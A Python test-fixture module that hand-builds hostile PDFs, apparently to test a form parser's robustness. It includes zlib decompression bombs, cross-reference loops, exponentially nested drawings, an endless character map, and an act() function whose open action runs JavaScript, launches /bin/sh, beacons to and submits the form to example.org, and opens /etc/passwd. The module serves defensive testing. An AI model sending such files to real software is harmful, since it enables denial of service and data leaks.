"""PDFs that no honest sender makes, written object by object: libraries that write PDFs refuse to write most of these."""

import io
import zlib

from reportlab.lib.pdfencrypt import StandardEncryption  # type: ignore[import-untyped]
from reportlab.lib.utils import ImageReader  # type: ignore[import-untyped]
from reportlab.pdfgen.canvas import Canvas  # type: ignore[import-untyped]

from tests.hostile_case import Rows

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
UNNAMED_CODES = (
    b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /FontDescriptor 11 0 R "
    b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>"
)
HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data: bytes, entries: bytes = b"", length: bytes | None = None) -> bytes:
    """Return a stream object's text."""
    return b"<< %s /Length %s >>\nstream\n%s\nendstream" % (entries, length or b"%d" % len(data), data)


def write_pdf(objects: dict[int, bytes], *, trailer: bytes = b"", junk: bytes = b"") -> bytes:
    """Return a PDF with a classic table of cross-references; object 1 is the catalog."""
    out = io.BytesIO()
    out.write(junk + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = out.tell() - len(junk)
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell() - len(junk)
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n")
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start))
    return out.getvalue()


def show(rows: Rows) -> bytes:
    """Return the content stream of a page with the rows of a form: labels left, values right."""
    lines = [b"BT /F1 10 Tf"]
    y = 800
    for label, value in rows:
        lines.append(b"1 0 0 1 50 %d Tm (%s) Tj" % (y, escape(label)))
        for number, part in enumerate(value.split("\t")):
            lines.append(b"1 0 0 1 %d %d Tm (%s) Tj" % (220 + 180 * number, y, escape(part)))
        y -= 18
    return b"\n".join([*lines, b"ET"])


def escape(text: str) -> bytes:
    """Return a text as the inside of a PDF string."""
    return text.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def good_objects(rows: Rows, content: bytes = b"") -> dict[int, bytes]:
    """Return the objects of a one-page form; `content` is drawn after it."""
    return {1: CATALOG, 2: TREE, 3: PAGE, 4: stream(show(rows) + b"\n" + content), 5: HELVETICA}


def good_pdf(rows: Rows, content: bytes = b"", changed: dict[int, bytes] | None = None, trailer: bytes = b"") -> bytes:
    """Return a one-page form, some of its objects replaced or added."""
    return write_pdf(good_objects(rows, content) | (changed or {}), trailer=trailer)


def deflate_zeros(size: int) -> bytes:
    """Return the zlib stream of `size` zero bytes, whole MiB, without compressing them all: one block is repeated."""
    block = 2**20
    assert size % block == 0
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = packer.compress(bytes(block)) + packer.flush(zlib.Z_FULL_FLUSH)
    # Adler-32 of n zeros: the first sum stays 1, the second counts the bytes.
    checksum = ((size % 65521) << 16 | 1).to_bytes(4, "big")
    return b"\x78\xda" + chunk * (size // block) + b"\x03\x00" + checksum


def encrypt_pdf(rows: Rows, user: str, owner: str, strength: int = 128) -> bytes:
    """Return a form that is encrypted for a user's and an owner's password; either may be empty."""
    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption(user, owner, strength=strength), invariant=1)
    y = 800
    for label, value in rows:
        canvas.drawString(50, y, label)
        for number, part in enumerate(value.split("\t")):
            canvas.drawString(220 + 180 * number, y, part)
        y -= 18
    canvas.save()
    return out.getvalue()


def scan_pdf() -> bytes:
    """Return pages that are pictures of text."""
    from PIL import Image, ImageDraw

    picture = Image.new("L", (600, 800), 255)
    ImageDraw.Draw(picture).text((40, 40), "City: Porto", fill=0)
    out = io.BytesIO()
    canvas = Canvas(out, invariant=1)
    for _ in range(2):
        canvas.drawImage(ImageReader(picture), 0, 0, 595, 842)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def many_pages(count: int) -> bytes:
    """Return a PDF of many pages with a line of text each."""
    first = 10
    kids = b" ".join(b"%d 0 R" % number for number in range(first, first + count))
    pages = dict.fromkeys(range(first, first + count), PAGE)
    return write_pdf(
        {
            1: CATALOG,
            2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            4: stream(b"BT /F1 9 Tf 50 700 Td (A page.) Tj ET"),
            5: HELVETICA,
        }
        | pages
    )


def deep_tree(depth: int) -> bytes:
    """Return a page tree of one page below many inner nodes."""
    nodes = {n: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 1) for n in range(10, 10 + depth)}
    return write_pdf({1: b"<< /Type /Catalog /Pages 10 0 R >>", 4: stream(b""), 5: HELVETICA} | nodes | {10 + depth: PAGE})


def nested_forms(rows: Rows, depth: int, calls: int) -> bytes:
    """Return a form beside a drawing that calls a drawing that calls …, each several times: `calls ** depth` in all."""
    forms = {}
    for number in range(depth):
        inner = b"/X Do " * calls if number < depth - 1 else b"BT /F1 1 Tf (x) Tj ET"
        resources = b"/Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % (11 + number)
        forms[10 + number] = stream(inner, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + resources)
    page = PAGE.replace(b"/Font <<", b"/XObject << /X 10 0 R >> /Font <<")
    return good_pdf(rows, b"/X Do", {3: page, **forms})


def attach(rows: Rows, data: bytes) -> bytes:
    """Return a form with a compressed file attached."""
    names = b"/Names << /EmbeddedFiles << /Names [(prices.bin) 10 0 R] >> >>"
    return good_pdf(
        rows,
        changed={
            1: CATALOG.replace(b">>", names + b" >>"),
            10: b"<< /Type /Filespec /F (prices.bin) /EF << /F 11 0 R >> >>",
            11: stream(data, b"/Type /EmbeddedFile /Filter /FlateDecode"),
        },
    )


def act(rows: Rows) -> bytes:
    """Return a form that would run a script, start a program, fetch a page and send a form when it is opened."""
    actions = (
        b"<< /S /JavaScript /JS (app.alert\\('hello'\\); this.exportDataObject\\({cName: 'x', nLaunch: 2}\\);) "
        b"/Next [<< /S /Launch /F (/bin/sh) >> << /S /URI /URI (http://example.org/beacon) >> "
        b"<< /S /SubmitForm /F (http://example.org/form) >> << /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>] >>"
    )
    return good_pdf(rows, changed={1: CATALOG.replace(b">>", b"/OpenAction 10 0 R /AA << /WC 10 0 R >> >>"), 10: actions})


def codes_without_characters(rows: Rows) -> bytes:
    """Return a form whose font does not say which characters its codes print."""
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1000 1000] >>"
    inner = UNNAMED_CODES
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [10 0 R] >>"
    content = b"BT /F1 10 Tf 50 700 Td "
    for label, value in rows:
        content += b"<" + (label + value).encode("utf-16-be").hex().encode() + b"> Tj 0 -18 Td "
    return write_pdf({1: CATALOG, 2: TREE, 3: PAGE, 4: stream(content + b"ET"), 5: font, 10: inner, 11: descriptor})


def bomb_font(rows: Rows, data: bytes) -> bytes:
    """Return a form whose embedded font is a compressed bomb, which must be read for want of a character map."""
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1000 1000] /FontFile2 12 0 R >>"
    inner = UNNAMED_CODES
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [10 0 R] >>"
    return write_pdf(
        {
            1: CATALOG,
            2: TREE,
            3: PAGE,
            4: stream(show(rows)),
            5: font,
            10: inner,
            11: descriptor,
            12: stream(data, b"/Filter /FlateDecode"),
        }
    )


def object_stream_loop(rows: Rows) -> bytes:
    """Return a PDF whose stream of objects holds, by the table of cross-references, itself."""
    return _with_xref_stream({10: (2, 10, 0), 1: (2, 10, 1)})


def xref_loop(rows: Rows) -> bytes:
    """Return a form whose table of cross-references names itself as the one before it."""
    data = good_pdf(rows)
    start = data.rindex(b"startxref\n") + len(b"startxref\n")
    offset = data[start:].split(b"\n")[0]
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev " + offset)


def _with_xref_stream(entries: dict[int, tuple[int, int, int]]) -> bytes:
    """Return a PDF of nothing but a stream of cross-references with the given entries: kind and two fields."""
    head = b"%PDF-1.7\n"
    rows = b"".join(bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for kind, a, b in entries.values())
    index = b" ".join(b"%d 1" % number for number in entries)
    body = stream(rows, b"/Type /XRef /Size 20 /W [1 4 2] /Root 1 0 R /Index [%s]" % index)
    return head + b"19 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, len(head))


def xref_bomb() -> bytes:
    """Return a PDF whose stream of cross-references says that it lists four thousand million objects."""
    head = b"%PDF-1.7\n"
    body = stream(deflate_zeros(2**20), b"/Type /XRef /Size 4294967295 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode")
    return head + b"19 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, len(head))


def endless_character_map(rows: Rows) -> bytes:
    """Return a form whose font's character map gives a range of four thousand million codes."""
    space = b"1 begincodespacerange <00000000> <ffffffff> endcodespacerange"
    cmap = b"begincmap %s 1 beginbfrange <00000000> <ffffffff> <0000> endbfrange endcmap" % space
    font = HELVETICA.replace(b">>", b"/ToUnicode 10 0 R >>")
    return good_pdf(rows, changed={5: font, 10: stream(cmap)})
